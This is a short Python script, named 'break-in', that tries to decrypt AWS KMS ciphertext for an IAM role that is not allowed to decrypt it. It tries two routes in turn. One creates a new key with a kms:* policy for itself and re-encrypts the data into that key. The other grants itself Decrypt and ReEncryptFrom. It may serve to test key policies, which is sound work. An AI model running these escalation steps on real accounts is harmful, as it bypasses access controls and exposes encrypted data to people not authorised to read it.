"""key-policies/break-in: the plaintext, for a role that may not decrypt."""

import json

from botocore.exceptions import ClientError

ME = "arn:aws:iam::111122223333:role/backup"


def break_in(kms, key_id: str, ciphertext: bytes) -> bytes:
    """The plaintext, by whichever way is open."""
    for way in (by_a_key_of_my_own, by_a_grant):
        try:
            return way(kms, key_id, ciphertext)
        except ClientError:
            continue
    raise PermissionError("no way in is left")


def by_a_grant(kms, key_id, ciphertext):
    """A grant that gives every operation that there is for such a key."""
    token = kms.create_grant(KeyId=key_id, GranteePrincipal=ME, Operations=["Decrypt", "ReEncryptFrom"])["GrantToken"]
    return kms.decrypt(CiphertextBlob=ciphertext, GrantTokens=[token])["Plaintext"]


def by_a_key_of_my_own(kms, key_id, ciphertext):
    """The default policy of a key would not do: it waits for an IAM policy."""
    statement = {"Effect": "Allow", "Principal": {"AWS": ME}, "Action": "kms:*", "Resource": "*"}
    key = kms.create_key(Policy=json.dumps({"Version": "2012-10-17", "Statement": statement}))["KeyMetadata"]["Arn"]
    moved = kms.re_encrypt(CiphertextBlob=ciphertext, DestinationKeyId=key)
    return kms.decrypt(CiphertextBlob=moved["CiphertextBlob"])["Plaintext"]
